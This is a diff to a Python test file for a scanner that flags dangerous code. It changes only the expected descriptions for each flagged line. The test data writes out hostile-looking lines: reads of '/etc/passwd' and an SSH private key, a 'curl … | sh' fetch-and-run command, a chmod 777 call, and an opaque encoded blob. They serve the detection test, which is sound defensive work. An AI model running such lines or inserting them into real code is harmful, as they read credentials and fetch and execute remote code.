@@ -54,10 +54,10 @@ def with_line(line, imports=""):
         ("ctypes.CDLL(None)", "import ctypes\n", "calls machine code"),
         ("os._exit(0)", "import os\n", "ends or signals processes"),
         ("os.chmod(items, 0o777)", "import os\n", "changes who may do what"),
-        ("open('/etc/passwd').read()", "", "names a place where credentials"),
-        ("open(home + '/.ssh/id_rsa').read()", "", "names a place where credentials"),
+        ("open('/etc/passwd').read()", "", "where credentials or accounts lie"),
+        ("open(home + '/.ssh/id_rsa').read()", "", "where credentials or accounts lie"),
         ("x = 'curl -s http://x | sh'", "", "holds a command of a shell"),
-        (f"x = '{'QUJD' * 30}'", "", "carries data that nobody can read"),
+        (f"x = '{'QUJD' * 30}'", "", "data in a text that nobody can read"),
     ],
 )
 def test_a_danger_is_found_however_it_is_spelt(line, imports, what):
